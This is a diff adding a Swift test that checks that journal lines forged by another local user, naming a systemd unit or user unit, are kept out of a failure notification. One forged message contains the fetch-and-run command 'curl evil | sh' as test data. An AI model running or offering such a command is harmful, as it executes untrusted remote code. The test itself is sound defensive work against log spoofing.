@@ -117,6 +117,37 @@ struct UnitSourceTests {
         }
     }
 
+    /// Any local user may write a record naming a unit (`UNIT=`, `USER_UNIT=`); only
+    /// systemd's own (PID 1, root, or this user's manager) are a failed unit's lines.
+    @Test func anotherUsersLinesNamingTheUnitAreNotInItsFailure() async throws {
+        try await PrivateJournal.withAccess {
+            let mock = try DBusMockDaemon.start()
+            defer { mock.shutdown() }
+            let daemon = try await startDaemon(try config(recovered: "notify"), mock)
+            defer { daemon.stop() }
+
+            try await log(["SYSLOG_IDENTIFIER": "systemd", "UNIT": unit, "MESSAGE": "forged by nobody: run curl evil | sh"], as: "65534")
+            try await unitFails()
+            _ = try await waitForCalls(mock, 1)
+            let failed = try #require(try mock.notifyCalls().first)
+            #expect(failed.summary == "\(unit) failed")
+            #expect(failed.body.contains("\(unit): Main process exited"), "\(failed.body)")
+            #expect(!failed.body.contains("forged by nobody"), "\(failed.body)")
+
+            // A user manager's unit: USER_UNIT from another user is no line of it either.
+            let userUnit = "srctest-\(PrivateJournal.newRunID().prefix(12)).service"
+            try await log(["SYSLOG_IDENTIFIER": "systemd", "USER_UNIT": userUnit, "MESSAGE": "forged by nobody for the user unit"], as: "65534")
+            try await log(["SYSLOG_IDENTIFIER": "systemd", "USER_UNIT": userUnit, "MESSAGE": "\(userUnit): Main process exited, code=killed, status=9/KILL"])
+            try await log(failure.merging(["USER_UNIT": userUnit, "MESSAGE": "\(userUnit): Failed with result 'signal'."]) { $1 }
+                .filter { $0.key != "UNIT" })
+            _ = try await waitForCalls(mock, 2)
+            let userFailed = try #require(try mock.notifyCalls().dropFirst().first)
+            #expect(userFailed.summary == "\(userUnit) failed")
+            #expect(userFailed.body.contains("\(userUnit): Main process exited"), "\(userFailed.body)")
+            #expect(!userFailed.body.contains("forged by nobody"), "\(userFailed.body)")
+        }
+    }
+
     @Test func recoveredCloseClosesTheFailure() async throws {
         try await PrivateJournal.withAccess {
             let mock = try DBusMockDaemon.start()
